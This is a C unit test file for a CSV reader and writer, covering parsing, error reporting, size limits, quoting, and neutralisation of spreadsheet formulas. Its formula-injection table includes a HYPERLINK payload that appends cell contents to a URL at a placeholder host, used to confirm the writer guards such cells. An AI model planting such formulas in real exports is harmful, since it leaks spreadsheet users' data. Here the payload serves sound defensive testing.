/* test_csv.c -- the CSV reader: a table of inputs and the records expected, then malformed inputs. */
#include "testutil.h"

#include "csv.h"

typedef struct csv_case {
    const char *input;
    const char *want; /* records joined by '\n', fields by '|' */
    char sep;         /* expected separator */
} csv_case;

static const csv_case cases[] = {
    {"a,b,c\n1,2,3\n", "a|b|c\n1|2|3", ','},
    {"a;b;c\r\n1;2;3\r\n", "a|b|c\n1|2|3", ';'},
    {"a,b\n1,2", "a|b\n1|2", ','},                          /* no final newline */
    {"\xEF\xBB\xBF" "a;b\n", "a|b", ';'},                   /* byte-order mark */
    {"a,b\n\n1,2\n\n", "a|b\n1|2", ','},                     /* blank lines */
    {"\"x,y\",z\n", "x,y|z", ','},
    {"\"he said \"\"hi\"\"\",z\n", "he said \"hi\"|z", ','},
    {"\"two\nlines\",z\n", "two\nlines|z", ','},
    {"a,,c\n", "a||c", ','},
    {",\n", "|", ','},
    {"\"\",x\n", "|x", ','},
    {"a;\"b;c\";d,e\n", "a|b;c|d,e", ';'},                   /* more ';' than ',' outside quotes */
    {"é,ü\n", "é|ü", ','},
};

static FILE *from_string(const char *s)
{
    FILE *f = tmpfile();
    fputs(s, f);
    rewind(f);
    return f;
}

static void test_table(void **state)
{
    (void)state;
    size_t failures = 0;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        FILE *f = from_string(cases[i].input);
        csv_reader *r = csv_open(f, 0);
        char got[512] = "";
        char **fields;
        size_t n;
        int rc, records = 0;
        while ((rc = csv_next(r, &fields, &n)) == 1) {
            size_t used = strlen(got);
            snprintf(got + used, sizeof got - used, "%s", records++ ? "\n" : "");
            for (size_t k = 0; k < n; k++) {
                used = strlen(got);
                snprintf(got + used, sizeof got - used, "%s%s", k ? "|" : "", fields[k]);
            }
        }
        if (rc != 0 || strcmp(got, cases[i].want) != 0 || csv_separator(r) != cases[i].sep) {
            failures++;
            fprintf(stderr, "case %zu: rc %d want [%s] got [%s] sep %c\n", i, rc, cases[i].want, got,
                    csv_separator(r));
        }
        csv_close(r);
        fclose(f);
    }
    assert_int_equal(failures, 0);
}

static void test_errors(void **state)
{
    (void)state;
    static const struct { const char *input; size_t line; const char *msg; } bad[] = {
        {"a,b\n\"open,x\n", 2, "jamais fermé"},
        {"a,b\nx\"y,z\n", 2, "au milieu"},
        {"a,b\n\"x\"y,z\n", 2, "après le guillemet"},
        {"a,b\nx\ry\n", 2, "retour chariot"},
    };
    for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
        FILE *f = from_string(bad[i].input);
        csv_reader *r = csv_open(f, 0);
        char **fields;
        size_t n;
        assert_int_equal(csv_next(r, &fields, &n), 1);
        assert_int_equal(csv_next(r, &fields, &n), -1);
        assert_int_equal(csv_line(r), bad[i].line);
        assert_non_null(strstr(csv_error(r), bad[i].msg));
        csv_close(r);
        fclose(f);
    }
    csv_close(NULL);
    assert_null(csv_open(NULL, ','));
}

static void test_limits(void **state)
{
    (void)state;
    FILE *f = tmpfile();
    for (int i = 0; i < CSV_MAX_FIELD + 10; i++)
        fputc('x', f);
    fputs("\n", f);
    rewind(f);
    csv_reader *r = csv_open(f, ',');
    char **fields;
    size_t n;
    assert_int_equal(csv_next(r, &fields, &n), -1);
    assert_non_null(strstr(csv_error(r), "octets"));
    csv_close(r);
    fclose(f);

    f = tmpfile();
    for (int i = 0; i < CSV_MAX_FIELDS + 1; i++)
        fputc(',', f);
    rewind(f);
    r = csv_open(f, ',');
    assert_int_equal(csv_next(r, &fields, &n), -1);
    assert_non_null(strstr(csv_error(r), "colonnes"));
    csv_close(r);
    fclose(f);
}

/* The separator is guessed from at most the first 256 KiB of the first line; a longer first line must still
 * be read whole (the byte just after that window was lost: found while writing fuzz_csv). */
static void test_long_first_line(void **state)
{
    (void)state;
    enum { FIELDS = 5, LEN = CSV_MAX_FIELD - 10 };
    FILE *f = tmpfile();
    for (int i = 0; i < FIELDS; i++) {
        for (int j = 0; j < LEN; j++)
            fputc('a' + (i + j) % 26, f);
        fputc(i + 1 < FIELDS ? ';' : '\n', f);
    }
    fputs("x;y\n", f);
    rewind(f);
    csv_reader *r = csv_open(f, 0);
    char **fields;
    size_t n;
    assert_int_equal(csv_next(r, &fields, &n), 1);
    assert_int_equal(n, FIELDS);
    for (int i = 0; i < FIELDS; i++) {
        assert_int_equal(strlen(fields[i]), LEN);
        for (int j = 0; j < LEN; j++)
            assert_int_equal(fields[i][j], 'a' + (i + j) % 26);
    }
    assert_int_equal(csv_next(r, &fields, &n), 1);
    assert_int_equal(n, 2);
    assert_string_equal(fields[1], "y");
    assert_int_equal(csv_next(r, &fields, &n), 0);
    csv_close(r);
    fclose(f);
}
/* Writing: fields that a reader would split, merge or trim are quoted; what is written reads back the same. */
static void test_write(void **state)
{
    (void)state;
    static const char *const writes[][2] = {
        {"bon", "bon"},           {"", ""},
        {"a,b", "\"a,b\""},       {"a;b", "\"a;b\""},
        {"dit \"oui\"", "\"dit \"\"oui\"\"\""}, {"deux\nlignes", "\"deux\nlignes\""},
        {" espace", "\" espace\""}, {"espace ", "\"espace \""},
    };
    for (size_t i = 0; i < sizeof writes / sizeof writes[0]; i++) {
        sbuf b = {0};
        csv_quote(&b, writes[i][0]);
        assert_string_equal(b.data ? b.data : "", writes[i][1]);
        char *mem = NULL;
        size_t len = 0;
        FILE *f = open_memstream(&mem, &len);
        csv_put(f, writes[i][0]);
        fputs(",x\n", f);
        fclose(f);
        assert_int_equal(strncmp(mem, writes[i][1], strlen(writes[i][1])), 0);
        /* and it reads back as one field equal to the original */
        FILE *in = fmemopen(mem, len, "r");
        csv_reader *r = csv_open(in, ',');
        char **fields;
        size_t nf;
        if (writes[i][0][0] != '\0') {
            assert_int_equal(csv_next(r, &fields, &nf), 1);
            assert_int_equal(nf, 2);
            assert_string_equal(fields[0], writes[i][0]);
        }
        csv_close(r);
        fclose(in);
        free(mem);
        sbuf_free(&b);
    }
    sbuf b = {0};
    csv_quote(&b, NULL);
    assert_true(b.len == 0);
    sbuf_free(&b);
}

/* Plain numbers are data, never neutralised: the strict syntax of csv_is_number. */
static void test_numbers(void **state)
{
    (void)state;
    static const struct {
        const char *s;
        bool number;
    } numbers[] = {
        {"0", true},     {"-3", true},      {"-0.052", true}, {"1e-5", true},  {"-2.5E+10", true}, {"-1e5", true},
        {"12.50", true}, {"-007", true},    {"", false},      {"-", false},    {"+3", false},      {"-.5", false},
        {"-3.", false},  {"-1+2", false},   {"-A1", false},   {"- 3", false},  {"-3 ", false},     {"1e", false},
        {"1e+", false},  {"-0x1F", false},  {"-inf", false},  {"-nan", false}, {"1,5", false},     {"-1-2", false},
        {"--3", false},  {"-1e5e5", false},
    };
    for (size_t i = 0; i < sizeof numbers / sizeof *numbers; i++)
        if (csv_is_number(numbers[i].s) != numbers[i].number)
            fail_msg("case %zu: csv_is_number(\"%s\") should be %d", i, numbers[i].s, numbers[i].number);
    assert_false(csv_is_number(NULL));
}

/* Reads back the first field of a one-line CSV written in mem. */
static char *read_first(const char *mem, size_t len)
{
    FILE *in = fmemopen((void *)mem, len, "r");
    csv_reader *r = csv_open(in, ',');
    char **fields;
    size_t nf;
    char *first = csv_next(r, &fields, &nf) == 1 ? strdup(fields[0]) : NULL;
    csv_close(r);
    fclose(in);
    return first;
}

/* Formulas: what a resident typed, and what a spreadsheet export must hold (OWASP: a leading single quote). */
static void test_formulas(void **state)
{
    (void)state;
    static const char *const formulas[][2] = {
        {"=HYPERLINK(\"https://x.example/?\"&A1)", "\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1)\""},
        {"=1+1", "'=1+1"},
        {"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
        {"+3", "'+3"},
        {"-1+2", "'-1+2"},
        {"-A1", "'-A1"},
        {"-", "'-"},
        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "\"'\r=1\""},
        {"=1,2", "\"'=1,2\""},
        {"'=1+1", "''=1+1"},
        {"''@x", "'''@x"},
        {"-3", "-3"},
        {"-0.052", "-0.052"},
        {"1e-5", "1e-5"},
        {"-2.5E+10", "-2.5E+10"},
        {"'-3", "'-3"},
        {"'bonjour", "'bonjour"},
        {"'", "'"},
        {"a=1", "a=1"},
        {"bonjour", "bonjour"},
        {"", ""},
    };
    for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
        const char *typed = formulas[i][0], *want = formulas[i][1];
        sbuf b = {0};
        csv_quote(&b, typed);
        if (strcmp(b.data ? b.data : "", want) != 0)
            fail_msg("case %zu: csv_quote wrote [%s], expected [%s]", i, b.data ? b.data : "", want);
        char *mem = NULL;
        size_t len = 0;
        FILE *f = open_memstream(&mem, &len);
        csv_put(f, typed);
        fputs(",x\n", f);
        fclose(f);
        if (strncmp(mem, want, strlen(want)) != 0 || mem[strlen(want)] != ',')
            fail_msg("case %zu: csv_put wrote [%s], expected [%s]", i, mem, want);
        /* read back, then the protective quote taken off: what was typed */
        char *back = read_first(mem, len);
        assert_non_null(back);
        const char *cell = csv_is_guarded(back) ? back + 1 : back;
        if (strcmp(cell, typed) != 0)
            fail_msg("case %zu: read back as [%s], expected [%s]", i, cell, typed);
        assert_int_equal(csv_needs_guard(typed), strcmp(back, typed) != 0);
        free(back);
        free(mem);
        /* csv_put_raw writes as typed (quoted only where the CSV syntax needs it) */
        mem = NULL;
        f = open_memstream(&mem, &len);
        csv_put_raw(f, typed);
        fputs(",x\n", f);
        fclose(f);
        back = read_first(mem, len);
        assert_string_equal(back, typed);
        free(back);
        free(mem);
        sbuf_free(&b);
    }
    assert_false(csv_needs_guard(NULL));
    assert_false(csv_is_guarded(NULL));
}

/* The round trip is exact for every string of up to four characters over the characters that matter (quotes,
 * formula starts, digits, a letter, number syntax): written, read back, the guard taken off, it is what it was. */
static void test_formula_round_trip(void **state)
{
    (void)state;
    static const char alphabet[] = "'=-+@\t1.eA";
    const size_t k = sizeof alphabet - 1;
    size_t checked = 0;
    for (size_t len = 0; len <= 4; len++) {
        size_t total = 1;
        for (size_t i = 0; i < len; i++)
            total *= k;
        for (size_t n = 0; n < total; n++) {
            char s[8];
            size_t x = n;
            for (size_t i = 0; i < len; i++, x /= k)
                s[i] = alphabet[x % k];
            s[len] = '\0';
            sbuf b = {0};
            csv_quote(&b, s);
            sbuf_add(&b, ",x\n", 3);
            char *back = read_first(b.data, b.len);
            assert_non_null(back);
            const char *cell = csv_is_guarded(back) ? back + 1 : back;
            if (strcmp(cell, s) != 0)
                fail_msg("[%s] came back as [%s]", s, cell);
            /* and what a spreadsheet sees never starts a formula, unless it is a plain number */
            if (back[0] != '\0' && strchr("=+-@\t\r", back[0]) != NULL && !csv_is_number(back))
                fail_msg("[%s] was written as a formula [%s]", s, back);
            free(back);
            sbuf_free(&b);
            checked++;
        }
    }
    assert_int_equal(checked, 11111);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_table),    cmocka_unit_test(test_errors),
        cmocka_unit_test(test_limits),   cmocka_unit_test(test_long_first_line),
        cmocka_unit_test(test_write),    cmocka_unit_test(test_numbers),
        cmocka_unit_test(test_formulas), cmocka_unit_test(test_formula_round_trip),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
